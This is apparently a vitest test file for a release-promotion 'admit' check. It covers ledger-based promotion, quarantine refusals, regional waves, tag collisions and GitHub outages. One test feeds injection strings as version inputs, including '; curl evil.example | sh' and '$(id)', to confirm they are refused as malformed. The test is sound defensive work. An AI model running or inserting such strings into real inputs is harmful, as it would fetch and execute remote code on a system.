import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type { EnvironmentSettings } from "../../src/manifest/manifest.ts";
import type { Release } from "../../src/release/release.ts";
import { AdmitFixture } from "./admit-fixture.ts";

let desk: AdmitFixture;
beforeEach(async () => {
  desk = await AdmitFixture.start();
});
afterEach(() => desk.stop());

/** Production in two regions. */
const inTwoRegions = (environments: readonly EnvironmentSettings[]) => [
  ...environments.slice(0, -1),
  ...environments
    .slice(-1)
    .flatMap((production) => ["eu", "us"].map((name) => ({ ...production, name, wave: "production" }))),
];

describe("admit", () => {
  it("admits what the ledger saw succeed in the environment before, by its tag's name too", async () => {
    await desk.delivered(desk.newer, "succeeded");
    await desk.admit("v1.4.0-alpha.2");
    expect(desk.outputs).toEqual({ version: desk.newer.version, digest: desk.newer.digest, commit: desk.newer.commit });
    expect(desk.summary).toContain("may go to production");
  });

  it.each([
    ["is live there", (good: Release) => ({ live: good })],
    ["was live there", (good: Release) => ({ previous: [good] })],
    [
      "succeeded there",
      (good: Release) => ({
        history: [
          { rolloutId: "r", release: good, phase: "succeeded", text: "", startedAtMs: 0, endedAtMs: 1 } as const,
        ],
      }),
    ],
  ])("admits what by the target's own record %s, though the ledger missed it", async (_what, recordOf) => {
    desk.records.staging = recordOf(desk.newer);
    await desk.admit("1.4.0-alpha.2");
    expect(desk.outputs.digest).toBe(desk.newer.digest);
  });

  it("refuses what was never delivered, or was rolled back, in the environment before", async () => {
    expect(await desk.refusals("1.4.0-alpha.2")).toEqual(["not-delivered-before"]);
    await desk.delivered(desk.newer, "rolled-back");
    expect(await desk.refusals("1.4.0-alpha.2")).toEqual(["not-delivered-before"]);
  });

  it("refuses what succeeded in the environment before, but was taken back there since", async () => {
    await desk.delivered(desk.newer, "succeeded");
    desk.records.staging = {
      quarantine: [{ kind: "failed", ...desk.newer, rolloutId: "r", reason: "burns its budget", atMs: 0 }],
    };
    expect(await desk.refusals("1.4.0-alpha.2")).toEqual(["not-delivered-before"]);
  });

  it("needs nothing before the first environment", async () => {
    await desk.admit("1.4.0-alpha.1", "dev");
    expect(desk.outputs.commit).toBe(desk.older.commit);
  });

  it("refuses an ancestor of what is live, what is live, and what is in quarantine", async () => {
    for (const one of [desk.older, desk.newer]) await desk.delivered(one, "succeeded");
    desk.records.production = {
      live: desk.newer,
      quarantine: [{ kind: "failed", ...desk.older, rolloutId: "r", reason: "errors 5.1 %", atMs: 0 }],
    };
    expect(await desk.refusals("1.4.0-alpha.1")).toEqual(["quarantined", "older-than-live"]);
    expect(await desk.refusals("1.4.0-alpha.2")).toEqual(["already-live"]);
  });

  it("admits what is in quarantine when a person says why, but not into another environment's", async () => {
    await desk.delivered(desk.newer, "succeeded");
    const entry = { kind: "failed" as const, ...desk.newer, rolloutId: "r", reason: "errors 5.1 %", atMs: 0 };
    desk.records.production = { quarantine: [entry] };
    await desk.admit("1.4.0-alpha.2", "production", { retryReason: "the database was full" });
    expect(desk.outputs.digest).toBe(desk.newer.digest);
    desk.records.staging = { quarantine: [entry] };
    await expect(desk.admit("1.4.0-alpha.2", "production", { retryReason: "again" })).rejects.toThrow(
      /did not succeed/,
    );
  });

  it("admits to a wave what every region takes, or has already", async () => {
    desk.declare(inTwoRegions);
    await desk.delivered(desk.newer, "succeeded");
    desk.records.eu = { live: desk.newer };
    await desk.admit("1.4.0-alpha.2", "production");
    expect(desk.outputs.digest).toBe(desk.newer.digest);
    expect(desk.summary).toContain("may go to production");
  });

  it("refuses to a wave what one region does not take, and names the waves that there are", async () => {
    desk.declare(inTwoRegions);
    await desk.delivered(desk.newer, "succeeded");
    desk.records.us = {
      quarantine: [{ kind: "failed", ...desk.newer, rolloutId: "r", reason: "errors 5.1 %", atMs: 0 }],
    };
    expect(await desk.refusals("1.4.0-alpha.2", "production")).toEqual(["quarantined"]);
    await expect(desk.admit("1.4.0-alpha.2", "prodution")).rejects.toThrow(/there is dev, staging, production\./);
  });

  it("refuses a region by its own name, beside every other reason, and names its wave", async () => {
    desk.declare(inTwoRegions);
    await desk.delivered(desk.newer, "succeeded");
    expect(await desk.refusals("1.4.0-alpha.2", "eu")).toEqual(["region-of-a-wave"]);
    expect(desk.summary).toContain("promote to production");
    desk.records.eu = {
      quarantine: [{ kind: "failed", ...desk.newer, rolloutId: "r", reason: "errors 5.1 %", atMs: 0 }],
    };
    expect(await desk.refusals("1.4.0-alpha.2", "eu")).toEqual(["region-of-a-wave", "quarantined"]);
  });

  it("refuses a build whose release name another build has", async () => {
    for (const one of [desk.older, desk.newer]) await desk.delivered(one, "succeeded");
    desk.world.git.git("tag", "v1.4.0", desk.older.commit);
    await desk.registry.tag("ghcr.io/acme/info", desk.older.digest, "1.4.0");
    expect(await desk.refusals("1.4.0-alpha.2")).toEqual(["name-taken"]);
  });

  it.each([
    ["9.9.9-alpha.1", "no-such-version"],
    ["latest", "malformed-version"],
    ["1.4.0-alpha.1; curl evil.example | sh", "malformed-version"],
    ["$(id)", "malformed-version"],
  ])("refuses %j as %s", async (version, kind) => {
    expect(await desk.refusals(version)).toContain(kind);
    expect(desk.summary).not.toMatch(/[^\\]</);
  });

  it("decides nothing while the ledger cannot be read", async () => {
    desk.world.github.fail({ answer: 500, times: 99, matching: "deployments" });
    expect((await desk.refusals("1.4.0-alpha.2"))[0]).toContain("GitHub could not list the deployments to staging");
  });
});
